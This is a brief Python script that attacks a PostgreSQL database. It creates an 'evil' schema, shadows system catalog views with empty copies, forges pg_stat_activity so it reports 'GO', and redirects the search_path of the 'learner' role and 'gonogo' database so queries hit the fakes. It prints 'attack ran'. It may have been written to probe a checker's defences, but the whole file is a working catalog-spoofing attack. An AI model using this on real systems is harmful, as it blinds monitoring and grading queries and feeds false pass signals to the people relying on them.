import os

import psycopg2

connection = psycopg2.connect(**{key: os.environ[name] for key, name in (("host", "PGHOST"), ("port", "PGPORT"), ("user", "PGUSER"), ("password", "PGPASSWORD"), ("dbname", "PGDATABASE"))})
connection.autocommit = True
cursor = connection.cursor()
for statement in (
    "CREATE SCHEMA IF NOT EXISTS evil",
    "CREATE OR REPLACE VIEW evil.pg_class AS SELECT * FROM pg_catalog.pg_class WHERE false",
    "CREATE OR REPLACE VIEW public.pg_attribute AS SELECT * FROM pg_catalog.pg_attribute WHERE false",
    "CREATE OR REPLACE VIEW public.pg_stat_activity AS SELECT 'GO' AS query",
    "ALTER ROLE learner SET search_path = evil, public, pg_catalog",
    "ALTER DATABASE gonogo SET search_path = evil, public, pg_catalog",
):
    try:
        cursor.execute(statement)
    except psycopg2.Error as error:
        print("refused:", str(error).split("\n")[0])
print("attack ran")
connection.close()
